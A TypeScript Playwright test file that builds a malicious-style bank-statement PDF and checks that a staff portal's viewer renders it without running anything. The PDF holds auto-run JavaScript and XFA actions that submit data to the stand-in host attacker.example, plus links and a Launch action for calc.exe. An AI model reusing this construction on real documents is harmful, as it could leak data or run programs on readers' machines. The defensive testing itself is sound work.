import { PDFDocument, PDFName, PDFString } from 'pdf-lib';
import type { Locator } from '@playwright/test';
import { prepareApplication } from '@portal/test-kit/prepared-applicant';
import { openConsole } from '@portal/test-kit/staff';
import { createStatementWithRows, monthsAgo, type UploadableFile } from '@portal/test-kit/statement';
import { expect, test } from '@portal/test-kit/test';

const ELSEWHERE = 'http://attacker.example';

async function activeStatement(): Promise<UploadableFile> {
  const file = await createStatementWithRows(monthsAgo(1), [4_000_00, -250_00]);
  const pdf = await PDFDocument.load(file.buffer);
  const { context, catalog } = pdf;
  const script = (name: string) => ({
    S: 'JavaScript',
    JS: PDFString.of(`app.alert('${name}'); this.submitForm('${ELSEWHERE}/${name}'); app.launchURL('${ELSEWHERE}');`),
  });
  const action = (given: Record<string, unknown>) => context.register(context.obj(given as never));
  catalog.set(PDFName.of('OpenAction'), action(script('open')));
  catalog.set(PDFName.of('AA'), context.obj({ WC: action(script('close')), DP: action(script('print')) }));
  const named = context.obj({ Names: [PDFString.of('ran'), action(script('named'))] });
  catalog.set(PDFName.of('Names'), context.obj({ JavaScript: named }));
  const xfa = context.register(context.stream(`<xdp:xdp><script>${ELSEWHERE}/xfa</script></xdp:xdp>`));
  catalog.set(PDFName.of('AcroForm'), context.obj({ Fields: [], XFA: xfa, NeedAppearances: true }));
  for (const page of pdf.getPages()) {
    const { width, height } = page.getSize();
    page.node.set(PDFName.of('AA'), context.obj({ O: action(script('page')) }));
    const everywhere = { Type: 'Annot', Subtype: 'Link', Rect: [0, 0, width, height], Border: [0, 0, 0] };
    page.node.set(
      PDFName.of('Annots'),
      context.obj([
        action({ ...everywhere, A: { S: 'URI', URI: PDFString.of(`${ELSEWHERE}/link`) } }),
        action({ ...everywhere, A: { S: 'Launch', F: PDFString.of('calc.exe'), NewWindow: true } }),
        action({ ...everywhere, A: { S: 'GoToR', F: PDFString.of(`${ELSEWHERE}/other.pdf`), D: [0, 'Fit'] } }),
        action({ ...everywhere, A: script('link') }),
      ]),
    );
  }
  return { ...file, name: 'active.pdf', buffer: Buffer.from(await pdf.save({ useObjectStreams: false })) };
}

test('a statement with scripts, network calls and links is drawn without any of them working', async ({
  page,
  portal,
  newVisitor,
}) => {
  const files = [await activeStatement()];
  expect(files[0]?.buffer.toString('latin1')).toContain('/OpenAction');
  const { application } = await prepareApplication(await newVisitor(), portal, 'en', 'complete', { files });
  const asked: string[] = [];
  let opened = 0;
  page.context().on('request', (request) => asked.push(request.url()));
  page.context().on('page', () => (opened += 1));
  page.on('dialog', (dialog) => {
    opened += 1;
    void dialog.dismiss();
  });
  page.on('download', () => (opened += 1));
  await openConsole(page, portal, { address: `/staff/applications/${application.applicationId}` });
  await page.getByRole('link', { name: 'active.pdf' }).first().click();
  const paper = page.getByRole('img', { name: /Page 1 of 1/u });
  await expect(paper).toBeVisible();
  await expect.poll(() => isDrawn(paper)).toBe(true);
  const address = page.url();
  await paper.click();
  await paper.click({ position: { x: 20, y: 20 } });
  await page.keyboard.press('Tab');
  await expect(page.locator('a[href*="attacker"]')).toHaveCount(0);
  await expect(paper.locator('a, input, iframe')).toHaveCount(0);
  await page.getByRole('button', { name: 'Zoom in' }).click();
  await expect.poll(() => isDrawn(paper)).toBe(true);
  expect(page.url()).toBe(address);
  expect(opened).toBe(0);
  expect(asked.filter((url) => !url.startsWith(portal.url) && !url.startsWith('blob:'))).toEqual([]);
  expect(asked.filter((url) => url.includes('attacker'))).toEqual([]);
});

test('a statement is drawn in a browser that lacks APIs that pdf.js uses', async ({ page, portal, newVisitor }) => {
  const { application } = await prepareApplication(await newVisitor(), portal, 'en', 'complete');
  const forget = 'delete Promise.withResolvers; delete ArrayBuffer.prototype.transferToFixedLength;';
  await page.addInitScript(forget);
  await page.route('**/paper-worker-*.js', async (route) => {
    const response = await route.fetch();
    await route.fulfill({ response, body: `${forget}${await response.text()}` });
  });
  await openConsole(page, portal, { address: `/staff/applications/${application.applicationId}` });
  await page
    .getByRole('link', { name: /\.pdf$/u })
    .first()
    .click();
  const paper = page.getByRole('img', { name: /Page 1 of 1/u });
  await expect.poll(() => isDrawn(paper)).toBe(true);
});

function isDrawn(paper: Locator): Promise<boolean> {
  return paper.locator('canvas').evaluate((canvas) => {
    if (!(canvas instanceof HTMLCanvasElement)) return false;
    const { data } = canvas.getContext('2d')?.getImageData(0, 0, canvas.width, canvas.height) ?? { data: [] };
    return data.some((value, at) => at % 4 !== 3 && value < 128);
  });
}
